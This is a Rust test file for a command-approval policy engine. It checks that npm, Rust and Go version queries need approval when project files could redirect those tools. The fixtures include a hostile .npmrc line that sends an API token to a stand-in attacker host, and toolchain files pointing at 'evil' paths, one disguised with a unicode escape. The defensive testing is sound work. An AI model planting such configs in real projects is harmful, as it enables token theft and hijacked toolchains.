//! Programs that a file of the project makes do more than they are asked.

use std::fs;

use pollux_domain::approval::ApprovalMode;
use pollux_policy::request::Decision;

use crate::everyday::{decide_in, options_in, shipped_in, write};

#[test]
fn a_project_that_configures_npm_or_a_toolchain_needs_approval_for_their_queries() {
    let root = tempfile::tempdir().unwrap();
    let project = root.path().canonicalize().unwrap().join("project");
    write(&project.join("web/app/package.json"), "{}\n");
    write(&project.join("src/lib.rs"), "\n");
    let engine = shipped_in(options_in(&project));
    let npm = [
        "npm ls",
        "npm list --depth=0",
        "npm version",
        "npm --version",
        "npm -v",
        "cd web/app && npm ls",
        "/usr/bin/npm ls",
    ];
    let rust = [
        "rustc --version",
        "cargo -V",
        "cargo --version",
        "rustfmt --version",
        "cd src && rustc -V",
        "rustup toolchain list",
    ];
    let compare = |commands: &[&str], expected: Decision, place: &str| {
        for command in commands {
            let verdict = decide_in(&engine, &project, command, ApprovalMode::Default, true);
            assert_eq!(verdict.decision, expected, "{command} with {place}: {}", verdict.reason);
        }
    };
    compare(&npm, Decision::Allow, "nothing");
    compare(&rust, Decision::Allow, "nothing");
    // Above the workspace, files are the user's own.
    write(&root.path().join(".npmrc"), "x\n");
    compare(&npm, Decision::Allow, "a file above");

    let file = project.join(".npmrc");
    write(&file, "registry=https://evil.example/${API_TOKEN}\n");
    compare(&npm, Decision::Ask, ".npmrc");
    compare(&rust, Decision::Allow, ".npmrc");
    fs::remove_file(&file).unwrap();
    std::os::unix::fs::symlink("../absent", &file).unwrap();
    compare(&npm, Decision::Ask, "a link");
    fs::remove_file(&file).unwrap();
    write(&project.join("web/.npmrc"), "x\n");
    compare(&["cd web/app && npm ls", "cd web && npm -v"], Decision::Ask, "a file further up");
    compare(&["npm ls"], Decision::Allow, "a file below");

    for (name, text, expected) in [
        (
            "rust-toolchain.toml",
            "[toolchain]\nchannel = \"1.80\"\ncomponents = [\"rustfmt\"]\n",
            Decision::Allow,
        ),
        ("rust-toolchain", "nightly-2024-01-01\n", Decision::Allow),
        ("rust-toolchain.toml", "[toolchain]\npath = \"evil\"\n", Decision::Ask),
        ("rust-toolchain", "[toolchain]\npath = \"evil\"\n", Decision::Ask),
        ("rust-toolchain.toml", "[toolchain]\n\"p\\u0061th\" = \"evil\"\n", Decision::Ask),
        ("rust-toolchain", "./evil\n", Decision::Ask),
    ] {
        write(&project.join(name), text);
        compare(&rust, expected, text);
        fs::remove_file(project.join(name)).unwrap();
    }
}

#[test]
fn a_project_that_selects_a_version_of_go_needs_approval_to_ask_for_it() {
    let root = tempfile::tempdir().unwrap();
    let project = root.path().canonicalize().unwrap().join("project");
    write(&project.join("cmd/main.go"), "package main\n");
    let engine = shipped_in(options_in(&project));
    for (name, text, expected) in [
        ("go.mod", "module x\n\ngo 1.21\n", Decision::Allow),
        ("go.mod", "module toolchain\n\nrequire x/toolchain v1\n", Decision::Allow),
        ("go.mod", "module x\n\ngo 1.21\ntoolchain go1.99.0\n", Decision::Ask),
        ("go.work", "go 1.21\n\ttoolchain\tgo1.21-evil\n", Decision::Ask),
    ] {
        write(&project.join(name), text);
        for command in ["go version", "cd cmd && go version"] {
            let verdict = decide_in(&engine, &project, command, ApprovalMode::Default, true);
            assert_eq!(verdict.decision, expected, "{command} with {text}: {}", verdict.reason);
        }
        fs::remove_file(project.join(name)).unwrap();
    }
}
